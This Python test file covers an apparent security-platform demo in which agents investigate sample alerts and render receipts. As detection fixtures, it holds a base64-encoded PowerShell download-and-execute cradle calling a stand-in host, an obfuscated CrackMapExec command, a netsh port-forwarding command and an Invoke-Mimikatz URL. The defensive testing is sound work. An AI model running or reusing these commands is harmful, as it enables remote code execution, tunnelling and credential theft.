"""``aurora demo`` as a newcomer runs it (a real process, real agents, real sockets), and its
parts: the sample alerts built from the shared data or the built-in scenario, the locator of the
data, and the rendering of thoughts and receipts. Its walkthrough of the shared data is in
test_platform, against the platform started there."""

from __future__ import annotations

import base64
import contextlib
import os
import re
import signal
import sqlite3
import subprocess
from pathlib import Path
from typing import Any

import pytest

from gateway.alerts.schemas import AlertCreate
from gateway.demo import (
    SCANME,
    DemoError,
    builtin_scenario,
    load_scenario,
    locate_shared_data,
    render_receipt,
    render_thought,
    windows_alert,
)
from tests.conftest import shared_data_dir
from tests.e2e.aurora import aurora_command

ALERT_ID = r"ALRT-\d{4}-\d{5}"
INVESTIGATION_ID = r"INV-\d{4}-\d{5}"


def demo_env(tmp_path: Path) -> dict[str, str]:
    """The caller's environment without AURORA_* settings; temporary files under ``tmp_path``
    (the demo's data directory is one); cheap password hashing."""
    env = {k: v for k, v in os.environ.items() if not k.startswith("AURORA_")}
    env.update(
        TMPDIR=str(tmp_path),
        AURORA_ARGON2_TIME_COST="1",
        AURORA_ARGON2_MEMORY_KIB="1024",
        AURORA_ARGON2_PARALLELISM="1",
    )
    return env


def run_demo(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [*aurora_command(), "demo", *args],
        env=demo_env(tmp_path),
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=240,
        check=False,
    )


def data_dir_of(stdout: str) -> Path:
    match = re.search(r"^Data directory: (\S+) ", stdout, re.M)
    assert match, stdout
    return Path(match.group(1))


def receipt_block(stdout: str) -> str:
    match = re.search(r"^Receipt of .*?(?=^Stopping the platform)", stdout, re.M | re.S)
    assert match, stdout
    return match.group(0)


# -- end to end ----------------------------------------------------------------------------------
# The demo's walkthrough of the shared data runs against the platform of test_platform.


def test_demo_with_the_builtin_scenario(tmp_path: Path) -> None:
    done = run_demo(tmp_path, "--builtin", "--keep")
    assert done.returncode == 0, done.stdout + done.stderr
    out = done.stdout
    assert "Sample alerts from the built-in sample scenario" in out
    assert "system mode dry_run" in out
    seeded = re.findall(rf"^  ({ALERT_ID}) ", out, re.M)
    assert len(seeded) == 2
    assert f"Investigating {seeded[0]}: Encoded PowerShell" in out
    # Thoughts streamed while the agents worked, before the receipt.
    thoughts = re.findall(r"^ +\+\d+\.\d\ds  (\w+) +(\w+) ", out, re.M)
    assert ("malware", "assess") in thoughts
    assert out.index("the agents' thoughts, live") < out.index("Receipt of ")

    receipt = receipt_block(out)
    assert re.match(rf"Receipt of {INVESTIGATION_ID}: completed", receipt)
    # One agent's rules on one command line are one source: the verdict rule
    # (orchestrator.verdict) makes it suspicious until an independent source (intel, the
    # platform's telemetry) corroborates it.
    assert re.search(r"Verdict     SUSPICIOUS  \(severity high, confidence 0\.[5-8]\d\)", receipt)
    # Found only by decoding the -EncodedCommand.
    assert f"url              http://{SCANME}/update.ps1" in receipt
    assert re.search(rf"block_ip {re.escape(SCANME)}  \[impact \w+\] → recorded", receipt)
    assert re.search(r"SHA-256 chain\s+[0-9a-f]{64}", receipt)
    assert "Failed" not in receipt
    assert re.search(r"^Demo finished in \d+\.\d s\.$", out, re.M)

    # --keep: the platform's data stays, with what the demo did in it.
    kept = data_dir_of(out)
    assert f"Kept {kept}: run `AURORA_DATA_DIR={kept} aurora up`" in out
    with contextlib.closing(sqlite3.connect(kept / "aurora.db")) as db:
        alerts = [row[0] for row in db.execute("SELECT id FROM alerts ORDER BY id")]
        investigations = list(db.execute("SELECT alert_id, status FROM investigations"))
    assert alerts == sorted(seeded)
    assert investigations == [(seeded[0], "completed")]


def test_sigterm_cuts_the_demo_short_and_it_cleans_up(tmp_path: Path) -> None:
    """Stopped as it starts its platform: it stops what it started, removes its data directory
    (nothing is left behind without --keep) and says why it ended."""
    demo = subprocess.Popen(
        [*aurora_command(), "demo", "--builtin"],
        env=demo_env(tmp_path),
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    assert demo.stdout is not None
    said = []
    for line in demo.stdout:  # from this line on, SIGINT and SIGTERM stop it cleanly
        said.append(line)
        if line.startswith("Starting the platform"):
            break
    data_dir = data_dir_of("".join(said))
    assert data_dir.is_dir()
    demo.send_signal(signal.SIGTERM)
    out, err = demo.communicate(timeout=120)
    assert demo.returncode == 128 + signal.SIGTERM, "".join(said) + out + err
    assert out.splitlines()[-1] == "Stopping the platform.", out
    assert "aurora demo: terminated" in err.splitlines()
    assert not data_dir.exists()
    assert list(tmp_path.iterdir()) == []


def test_demo_refuses_a_missing_data_directory(tmp_path: Path) -> None:
    done = run_demo(tmp_path, "--data", str(tmp_path / "nowhere"))
    assert done.returncode == 2
    assert f"--data {tmp_path / 'nowhere'}: no such directory" in done.stderr
    assert "Starting the platform" not in done.stdout


# -- sample alerts -------------------------------------------------------------------------------


def test_samples_from_the_shared_data() -> None:
    root = shared_data_dir()
    if root is None:
        pytest.skip("needs the shared data (../shared/data or AURORA_SHARED_DATA)")
    scenario = load_scenario(root)
    assert not scenario.builtin
    assert len(scenario.alerts) == 4
    for sample in scenario.alerts:
        AlertCreate.model_validate(sample.body)  # each is a valid POST /alerts body

    crackmapexec, download, netsh, suricata = (s.body for s in scenario.alerts)
    assert scenario.focus == 0
    assert crackmapexec["title"] == (
        "CrackMapExec payload execution on win10-02.offsec.lan "
        "(T1027 Obfuscated Files or Information)"
    )
    assert crackmapexec["source"] == "sysmon"
    assert crackmapexec["observed_at"] == "2021-04-30T20:27:39.761237+00:00"
    assert crackmapexec["tags"] == [
        "attack.defense_evasion",
        "attack.t1027",
        "evtx-to-mitre-attack",
    ]
    assert crackmapexec["entities"] == [
        {"type": "host", "value": "win10-02.offsec.lan"},
        {"type": "user", "value": "OFFSEC\\admmig"},
        {"type": "process", "value": "cmd.exe"},
    ]
    (command,) = scenario.focus_alert.command_lines
    assert command.startswith("cmd.exe /Q /c powershell.exe -exec bypass -noni -nop -w 1 -C")
    assert "-JOIN('91A78H101@116f46G83" in command
    assert f"Command: {command}" in crackmapexec["description"]

    assert download["title"] == (
        "Payload download via PowerShell on fs03vuln.offsec.lan (T1059.001 PowerShell)"
    )
    assert {"type": "domain", "value": "miro.medium.com"} in download["entities"]
    assert netsh["source"] == "windows-security"
    assert netsh["rule_id"] == "evtx-to-mitre-attack/T1572"

    assert suricata["source"] == "suricata"
    assert suricata["title"].startswith("ET TROJAN ")
    assert suricata["severity"] == "high"
    assert suricata["rule_id"].startswith("sid:")
    ips = {e["value"] for e in suricata["entities"] if e["type"] == "ip"}
    assert ips == {suricata["raw"]["src_ip"], suricata["raw"]["dest_ip"]}
    assert suricata["observed_at"] == suricata["raw"]["timestamp"][:-5] + "-06:00"


def test_windows_alert_from_a_security_event() -> None:
    event = {
        "EventID": 4688,
        "Channel": "Security",
        "Computer": "FS01.offsec.lan",
        "TimeCreated": "2021-06-03T12:17:58.582712Z",
        "SubjectUserName": "admmig",
        "SubjectDomainName": "OFFSEC",
        "NewProcessName": "C:\\Windows\\System32\\netsh.exe",
        "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
        "CommandLine": "netsh  I p a v l=8001 listena=0.0.0.0 connectp=3389 c=1.1.1.1",
    }
    sample = windows_alert(
        event,
        tactic="TA0011-Command and Control",
        technique="T1572-Protocol tunneling",
        scenario="netsh RDP port forwarding abuse",
    )
    body = AlertCreate.model_validate(sample.body)
    assert (
        body.title
        == "netsh RDP port forwarding abuse on fs01.offsec.lan (T1572 Protocol tunneling)"
    )
    assert body.source == "windows-security"
    assert body.tags == ["attack.command_and_control", "attack.t1572", "evtx-to-mitre-attack"]
    # The forwarding target is an indicator; the listen-on-all address is not.
    assert [(e.type, e.value) for e in body.entities] == [
        ("host", "fs01.offsec.lan"),
        ("user", "OFFSEC\\admmig"),
        ("process", "netsh.exe"),
        ("ip", "1.1.1.1"),
    ]
    assert body.description == (
        "Security process creation on fs01.offsec.lan\n"
        "OFFSEC\\admmig ran C:\\Windows\\System32\\netsh.exe "
        "(parent C:\\Windows\\System32\\cmd.exe)\n"
        "Command: netsh  I p a v l=8001 listena=0.0.0.0 connectp=3389 c=1.1.1.1"
    )
    assert sample.command_lines == (event["CommandLine"],)


def test_builtin_scenario_is_the_fallback(tmp_path: Path) -> None:
    scenario = builtin_scenario()
    assert scenario.builtin
    assert "built-in" in scenario.source
    for sample in scenario.alerts:
        body = AlertCreate.model_validate(sample.body)
        assert "built-in sample" in body.title
    (command,) = scenario.focus_alert.command_lines
    encoded = command.rsplit(" ", 1)[1]
    assert base64.b64decode(encoded).decode("utf-16-le") == (
        f"IEX (New-Object Net.WebClient).DownloadString('http://{SCANME}/update.ps1')"
    )
    assert load_scenario(None) == scenario
    (tmp_path / "logs").mkdir()  # a data directory without any of the samples
    assert load_scenario(tmp_path) == scenario


def test_locating_the_shared_data(tmp_path: Path) -> None:
    explicit, configured = tmp_path / "explicit", tmp_path / "configured"
    beside_cwd, cwd = tmp_path / "shared" / "data", tmp_path / "project"
    for folder in (explicit, configured, beside_cwd, cwd):
        folder.mkdir(parents=True)
    environ = {"AURORA_SHARED_DATA": str(configured)}
    assert locate_shared_data(explicit, environ=environ, cwd=cwd) == explicit
    assert locate_shared_data(None, environ=environ, cwd=cwd) == configured
    assert locate_shared_data(None, environ={}, cwd=cwd) == beside_cwd
    with pytest.raises(DemoError, match="no such directory"):
        locate_shared_data(tmp_path / "missing", environ=environ, cwd=cwd)


# -- rendering -----------------------------------------------------------------------------------


def test_render_thought() -> None:
    thought = {
        "type": "thought",
        "agent": "malware",
        "step": "assess",
        "text": "7 rule(s) fired →\n critical",
        "investigation_id": "INV-2026-00001",
    }
    assert render_thought(thought, 0.214) == (
        "    +0.21s  malware       assess     7 rule(s) fired → critical"
    )
    assert render_thought({"type": "gap", "dropped": 3}, 12.5) == (
        "   +12.50s  (3 thought(s) dropped: too slow)"
    )
    assert render_thought({"type": "receipt"}, 1.0) is None


RECEIPT: dict[str, Any] = {
    "investigation_id": "INV-2026-00007",
    "verdict": "malicious",
    "severity": "critical",
    "confidence": 0.95,
    "techniques": [
        {"id": "T1003.001", "agents": ["malware"]},
        {"id": "T1059.001", "agents": ["malware", "threat_intel"]},
    ],
    "iocs": [
        {"type": "ip", "value": "10.23.123.11", "subtype": "ipv4"},
        {"type": "url", "value": "https://10.23.123.11:443/Invoke-Mimikatz.ps1"},
        {"type": "domain", "value": "evil.example"},
    ],
    "findings": [
        {
            "agent": "malware",
            "severity": "critical",
            "confidence": 0.95,
            "backend": "builtin",
            "summary": "7 detection rule(s) fired.",
            "round": 0,
        },
        {
            "agent": "threat_intel",
            "severity": "low",
            "confidence": 0.3,
            "backend": "llm",
            "degraded": True,
            "summary": "No threat intelligence.",
            "round": 1,
        },
    ],
    "failures": [{"agent": "network", "round": 0, "reason": "deadline exceeded"}],
    "actions": [
        {
            "key": "INV-2026-00007/A1",
            "action": "block_url",
            "target": "https://10.23.123.11:443/",
            "impact": "low",
            "guardrail": {"decision": "allow", "outcome": "propose", "mode": "monitor"},
            "status": "proposed",
        },
        {
            "key": "INV-2026-00007/A2",
            "action": "isolate_host",
            "target": "win10-02",
            "impact": "high",
            "guardrail": {"decision": "require_approval", "outcome": "await_approval"},
            "status": "executed",
            "approval": {"decision": "approved", "by": "rita"},
        },
        {
            "key": "INV-2026-00007/A3",
            "action": "disable_account",
            "target": "admin",
            "impact": "high",
            "guardrail": {"decision": "require_approval", "outcome": "await_approval"},
            "status": "expired",
            "approval": {"decision": "expired", "by": None},
            "error": {"code": "AURORA-4080", "message": "Human approval timed out"},
        },
    ],
    "tool_calls": [{"agent": "malware", "tool": "decode_layers", "chain": "ab" * 32}] * 3,
    "tool_call_chain": "ab" * 32,
    "timeline": [
        {"event": "intake", "iocs": 1},
        {"event": "plan", "agents": ["threat_intel", "malware"]},
        {"event": "finding", "agent": "malware"},
        {"event": "agent_failed", "agent": "network"},
        {"event": "report", "verdict": "malicious"},
    ],
    "latency_ms": 1234.5,
    "tokens": 0,
}


def test_render_receipt() -> None:
    investigation = {"id": "INV-2026-00007", "status": "completed", "receipt": RECEIPT}
    lines = render_receipt(
        investigation,
        technique_names={"T1003.001": "OS Credential Dumping: LSASS Memory"},
        width=200,
        max_items=2,
    )
    text = "\n".join(lines)
    assert lines[0] == "Receipt of INV-2026-00007: completed"
    assert lines[1] == "  Verdict     MALICIOUS  (severity critical, confidence 0.95)"
    assert re.search(
        r"^  Techniques  T1003\.001 +OS Credential Dumping: LSASS Memory +malware$", text, re.M
    )
    assert re.search(r"^ {14}T1059\.001 +malware, threat_intel$", text, re.M)
    assert "  Indicators  ip               10.23.123.11" in lines
    assert "              (+1 more)" in lines
    assert "  Findings    malware: critical, 0.95, builtin. 7 detection rule(s) fired." in lines
    assert (
        "              threat_intel (round 2): low, 0.30, llm, degraded. No threat intelligence."
        in lines
    )
    assert (
        "  Actions     block_url https://10.23.123.11:443/  [impact low] → proposed "
        "(policy: allow, propose)" in lines
    )
    assert (
        "              isolate_host win10-02  [impact high] → executed "
        "(policy: require_approval, await_approval); approved by rita" in lines
    )
    assert (
        "              disable_account admin  [impact high] → expired "
        "(policy: require_approval, await_approval); expired by nobody; AURORA-4080" in lines
    )
    assert "  Failed      network: deadline exceeded" in lines
    assert f"  Tool calls  3 recorded; SHA-256 chain {'ab' * 32}" in lines
    assert (
        "  Timeline    intake → plan [threat_intel, malware] → finding malware → "
        "agent_failed network → report (malicious)" in lines
    )
    assert lines[-1] == "  Latency     1.23 s, 0 LLM token(s)"


def test_render_receipt_without_one() -> None:
    failed = {"id": "INV-2026-00008", "status": "failed", "receipt": None, "error": "KeyError"}
    assert render_receipt(failed) == [
        "Receipt of INV-2026-00008: failed",
        "  no receipt (KeyError)",
    ]
    sparse = render_receipt({"id": "INV-1", "status": "completed", "receipt": {"verdict": "x"}})
    assert sparse == [
        "Receipt of INV-1: completed",
        "  Verdict     X  (severity ?, confidence ?)",
    ]
